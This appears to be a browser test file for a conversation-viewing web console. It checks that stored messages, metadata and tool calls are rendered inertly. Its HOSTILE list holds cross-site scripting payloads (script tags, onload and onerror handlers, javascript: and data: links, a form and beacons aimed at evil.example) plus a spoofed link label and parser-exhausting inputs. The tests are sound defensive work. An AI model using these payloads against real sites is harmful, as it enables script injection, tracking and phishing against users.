import { afterAll, describe, expect, test } from 'vitest';
import { writeFileSync } from 'node:fs';
import type { Page } from 'playwright-core';
import { temporaryFolder } from '../support/folder.ts';
import { startServer } from '../support/server.ts';
import { NO_BROWSER, openPage } from './support/browser.ts';

const SVG = Buffer.from('<svg xmlns="http://www.w3.org/2000/svg" onload="owned=1"/>').toString(
  'base64',
);

/** Texts that try to run code, to load something, or to be taken for something else. */
const HOSTILE = [
  '<script>window.owned=1</script>',
  '<svg onload="window.owned=1"></svg>',
  '<img src="https://evil.example/beacon.png" onerror="window.owned=1">',
  '<iframe srcdoc="<script>parent.window.owned=1</script>"></iframe>',
  '<form action="https://evil.example/"><input name="key"></form>',
  '<style>body{display:none}</style>',
  '[click](javascript:window.owned=1)',
  '[click](data:text/html,<script>1</script>)',
  '![beacon](https://evil.example/beacon.png)',
  '![svg](data:image/svg+xml,<svg onload=1>)',
  `![svg](data:image/svg+xml;base64,${SVG})`,
  '[bank.example](https://evil.example/)',
  '<a href="javascript:window.owned=1">x</a>',
  '`<b>` &lt;b&gt; | a | b |\n| - | - |\n| <img src=https://evil.example/> | c |',
  '\u202Egnp.exe',
  '['.repeat(2000),
  '> '.repeat(300),
];

const folder = await temporaryFolder();
const config = folder.path('colloquy.yaml');
writeFileSync(config, 'retention: { trash_days: 7 }\n');
const server = await startServer('--config', config);
afterAll(async () => {
  await server[Symbol.asyncDispose]();
  await folder[Symbol.asyncDispose]();
});

const items = HOSTILE.flatMap((text) => [
  { type: 'message' as const, role: 'user' as const, content: text },
  { type: 'message' as const, role: 'assistant' as const, content: text },
]);
const metadata = { title: HOSTILE[1] ?? '', topic: HOSTILE[2] ?? '', [HOSTILE[0] ?? '']: 'key' };
const { id } = await server.client.conversations.create({
  metadata,
  items: [
    ...items.slice(0, 30),
    { type: 'function_call', call_id: 'c', name: HOSTILE[0] ?? '', arguments: HOSTILE[1] ?? '' },
    { type: 'function_call_output', call_id: 'c', output: HOSTILE[3] ?? '' },
  ],
});
const more = await server.client.conversations.items.create(id, {
  items: [
    ...items.slice(30),
    // Sound: the server keeps items of types and with parts that it does not know.
    { type: 'from_the_future', '<b>key</b>': HOSTILE[2] } as never,
    {
      type: 'message',
      role: 'user',
      content: [{ type: 'input_image', image_url: `data:image/svg+xml;base64,${SVG}` }],
    } as never,
  ],
});
const ITEMS = 32 + more.data.length;
const fork = await server.client.post<{ id: string }>(`/conversations/${id}/fork`, {
  body: { before: more.data[0]?.id, metadata },
});
const trashed = await server.client.conversations.create({ metadata });
await server.client.conversations.delete(trashed.id);

const conversation = `#/conversations/${id}`;
const press =
  (...keys: readonly string[]) =>
  async ({ keyboard }: Page): Promise<void> => {
    for (const key of keys) await keyboard.press(key);
  };
const open =
  (name: string) =>
  (page: Page): Promise<void> =>
    page.locator('.conversation-actions').getByRole('button', { name }).click();

async function expectHarmless(page: Page): Promise<void> {
  expect(await page.evaluate('window.owned')).toBeUndefined();
  const markup =
    ':is(script, iframe, form[action], [name=key], style, object, embed, svg:not(.icon), img:not([src^="data:image/png"]))';
  expect(await page.locator(`#console ${markup}`).count()).toBe(0);
  const links = await page.locator('#console a').evaluateAll((all) =>
    // Links of the page itself begin with `#`.
    all.map((link) => link.getAttribute('href') ?? ''),
  );
  expect(links.filter((href) => !/^(#|https?:|mailto:)/.test(href))).toEqual([]);
}

describe.skipIf(NO_BROWSER !== undefined)('in a browser', () => {
  test.each([
    ['the list', '', '.row-title', undefined],
    ['the search', '#/search?q=owned', '.results mark', undefined],
    ['an outline', conversation, '.line', press('o')],
    ['the details of an item', conversation, '.detail .json-name', press('k', 'Enter')],
    [
      'the tree of forks',
      conversation,
      '.tree .node',
      (page: Page) => page.getByRole('button', { name: '1 fork' }).click(),
    ],
    ['the question before a deletion', conversation, 'dialog[open]', open('Delete')],
    ['the fields of metadata', conversation, '[aria-label="Key 3"]', open('Metadata')],
    ['a comparison', `#/compare?left=${id}&right=${fork.id}`, '.sides .cell', undefined],
    ['the trash', '#/trash', '.trash tbody tr', undefined],
    [
      'an erasure',
      `#/erase?q=${encodeURIComponent(`topic:"${HOSTILE[10]}"`)}`,
      '.panel',
      undefined,
    ],
  ] as const)(
    'hostile texts run nothing and load nothing in %s',
    async (_page, fragment, shows, act) => {
      await using watched = await openPage(server.origin, fragment);
      const { page } = watched;
      await page.locator('main :is(.row-title, article, .panel)').first().waitFor();
      await act?.(page);
      await page.locator(shows).first().waitFor();
      await expectHarmless(page);
    },
  );

  test('hostile texts run nothing and load nothing in a conversation, all of whose rows are drawn', async () => {
    await using watched = await openPage(server.origin, conversation);
    const { page } = watched;
    await page.setViewportSize({ width: 1280, height: 20_000 });
    await expect.poll(() => page.locator('article').count()).toBe(ITEMS);
    const closed = page.locator('.said button[aria-expanded=false]');
    while ((await closed.count()) > 0) await closed.first().click();
    await expectHarmless(page);
    expect(await page.locator('.elsewhere').count()).toBeGreaterThan(2);
  });

  test('a link out of a text says which host it leads to', async () => {
    await using watched = await openPage(server.origin, conversation);
    const { page } = watched;
    await page.setViewportSize({ width: 1280, height: 20_000 });
    const link = page.locator('.markdown a', { hasText: 'bank.example' });
    await link.waitFor();
    expect(await link.locator('xpath=..').textContent()).toContain('evil.example');
    expect(await link.getAttribute('rel')).toContain('noopener');
  });

  test('an item that says that it is the stub of a large one hides nothing', async () => {
    const stub = { object: 'conversation.item.stub', bytes: 3 };
    const hiding = [
      { type: 'message', role: 'user', content: 'words of a message', ...stub },
      { type: 'function_call', call_id: 'c', name: 'tool_by_name', arguments: '{}', ...stub },
      { type: 'from_the_future', told: 'words of the future', ...stub },
    ];
    const { id: stored } = await server.client.conversations.create({ items: hiding as never });
    await using watched = await openPage(server.origin, `#/conversations/${stored}`);
    const { page } = watched;
    const rows = page.locator('.rows');
    await page.locator('article').nth(2).waitFor();
    expect(await rows.textContent()).toMatch(/words of a message.*tool_by_name.*from_the_future/s);
    expect(await page.getByRole('button', { name: 'Load it' }).count()).toBe(0);
    await page.keyboard.press('o');
    await page.locator('.line').nth(2).waitFor();
    expect(await rows.textContent()).toMatch(/words of a message.*tool_by_name/s);
  });

  test('a pair of metadata that looks like another filter filters by itself', async () => {
    const pairs = { title: 'Odd pairs', user_id: '"user-17"', topic: 'plain', owner: 'ann' };
    await server.client.conversations.create({ metadata: pairs });
    await using watched = await openPage(server.origin);
    const { page } = watched;
    for (const [key, value] of Object.entries(pairs).slice(1)) {
      await page
        .locator('tr', { hasText: 'Odd pairs' })
        .locator('.pair', { hasText: value })
        .click();
      const filter = new URLSearchParams({ [`metadata[${key}]`]: value }).toString();
      await expect.poll(() => watched.calls.some((call) => call.includes(filter))).toBe(true);
      await page.goBack();
    }
  });

  test.each([
    [
      'a table of a million cells',
      `|${'a|'.repeat(1000)}\n|${'-|'.repeat(1000)}\n${'|\n'.repeat(1000)}`,
    ],
    ['an answer with thousands of signs of emphasis', '**a**b*'.repeat(2857)],
  ])('%s is shown as its text, so that the page stays usable', async (_what, text) => {
    const items = [{ type: 'message' as const, role: 'assistant' as const, content: text }];
    const { id: costly } = await server.client.conversations.create({ items });
    await using watched = await openPage(server.origin, `#/conversations/${costly}`);
    const { page } = watched;
    await page.locator('article').waitFor();
    expect(await page.locator('article :is(table, strong)').count()).toBe(0);
    expect(await page.locator('article .said').textContent()).toContain(text.slice(0, 40));
  });
});
